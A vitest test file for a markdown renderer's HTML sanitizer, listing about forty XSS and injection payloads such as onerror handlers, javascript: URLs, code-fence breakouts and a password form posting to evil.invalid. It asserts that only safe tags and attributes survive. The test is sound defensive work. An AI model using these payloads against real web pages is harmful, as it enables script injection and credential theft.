import { expect, test } from "vitest";
import { Blocks } from "./blocks.ts";
import { clean } from "./clean.ts";
import { highlight, loadHighlighter } from "./highlight.ts";
import { codeInner } from "./render.ts";

/** Everything a block list puts on the page, as elements. */
function elements(markdown: string, growing = false): HTMLElement {
  const root = document.createElement("div");
  for (const block of new Blocks().update(markdown, growing)) {
    root.innerHTML += block.kind === "html" ? block.html : `<pre>${codeInner(block.code, block.language)}</pre>`;
  }
  return root;
}

const attacks = [
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<b onclick=alert(1)>bold</b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<a href='javascript:alert(1)'>x</a>",
  "<base href=//evil.invalid>",
  "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
  "<form action=//evil.invalid><input name=password></form>",
  "<style>@import '//evil.invalid/x.css'</style>",
  "<link rel=stylesheet href=//evil.invalid/x.css>",
  "<div style='background:url(//evil.invalid/x)'>x</div>",
  "![x](http://evil.invalid/x.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x][1]\n\n[1]: http://evil.invalid/x.png",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.invalid/protocol-relative)",
  "[x](/api/auth/logout)",
  "<javascript:alert(1)>",
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "```js\"onload=\"alert(1)\n<img src=x onerror=alert(1)>\n```",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "- ```\n  </code><img src=x onerror=alert(1)>\n  ```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "`<img src=x onerror=alert(1)>`",
  "<sub onclick=alert(1)>x</sub>",
  "<br/onclick=alert(1)>",
];

const allowedTags = /^(A|B|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DIV|EM|H[3-6]|HR|I|KBD|LI|MARK|OL|P|PRE|S|SMALL|SPAN|STRONG|SUB|SUP|TABLE|TBODY|TD|TH|THEAD|TR|U|UL)$/;

function expectHarmless(root: HTMLElement) {
  for (const element of root.querySelectorAll("*")) {
    expect(element.tagName).toMatch(allowedTags);
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(/^(href|rel|target|class|start|tabindex|role|aria-label|aria-hidden|type|data-copy)$/);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
    if (element.tagName === "A" && element.hasAttribute("href")) {
      expect([element.getAttribute("rel"), element.getAttribute("target")]).toEqual(["noopener noreferrer", "_blank"]);
    }
  }
}

test.each(attacks)("%s", (attack) => {
  expectHarmless(elements(attack));
});

test.each(attacks)("while it grows: %s", (attack) => {
  for (let i = 1; i <= attack.length; i++) expectHarmless(elements(attack.slice(0, i), true));
});

test.each(attacks)("the second wall holds alone: %s", (attack) => {
  const root = document.createElement("div");
  root.innerHTML = clean(attack);
  for (const element of root.querySelectorAll("*")) {
    expect(element.tagName).toMatch(allowedTags);
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^style$|^src/);
  }
});

test("coloured code is escaped too", async () => {
  await loadHighlighter();
  const attack = "<img src=x onerror=alert(1)>";
  for (const language of ["xml", "javascript", "rust", "bash", "unknown"]) {
    const root = document.createElement("div");
    root.innerHTML = codeInner(attack, language);
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toBe(attack);
  }
  expect(highlight("let a = 1;", "js")).toContain("hljs-keyword");
});

test("harmless marks and links still work", () => {
  const root = elements("H<sub>2</sub>O, <kbd>Esc</kbd>, line<br>break, [ok](https://example.org/a?b=c&d=e), [mail](mailto:a@b.c)");
  expect(root.querySelector("sub")?.textContent).toBe("2");
  expect(root.querySelectorAll("kbd, br")).toHaveLength(2);
  expect([...root.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual(["https://example.org/a?b=c&d=e", "mailto:a@b.c"]);
});
